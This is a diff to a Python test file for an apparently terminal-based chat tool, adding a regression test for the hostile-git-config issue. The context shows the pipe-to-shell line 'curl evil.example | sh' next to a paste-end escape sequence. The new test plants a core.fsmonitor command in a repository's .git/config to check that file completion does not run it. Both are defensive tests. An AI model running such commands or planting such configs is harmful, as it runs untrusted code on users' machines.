@@ -43,3 +43,19 @@ def test_a_copied_code_block_holding_a_paste_end_reaches_the_clipboard_clean(ter
     screen = term.wait("removed", what="the copy notice")
     assert "1 control" in screen, screen
     assert term.tmux("show-buffer") == "ls[201~\ncurl evil.example | sh\n"
+
+
+def test_typing_at_in_a_repository_with_a_hostile_git_config_runs_nothing(term, server):
+    """Issue 21, attack 2: the `@` completion's `git ls-files` ran the repository's
+    core.fsmonitor payload as the user."""
+    import subprocess
+
+    work, marker = term.home / "work", term.home / "PWNED"
+    subprocess.run(["git", "init", "-q"], cwd=work, check=True, env={"PATH": "/usr/bin:/bin", "HOME": str(work)})
+    (work / "notes.txt").write_text("hello\n")
+    with (work / ".git" / "config").open("a") as f:  # as an unpacked archive ships it
+        f.write(f'[core]\n\tfsmonitor = "touch {marker}; echo"\n')
+    start_chat(term, server)
+    term.type("look at @no")
+    term.wait("notes.txt", what="the popup")
+    assert not marker.exists(), "the repository's fsmonitor payload ran"
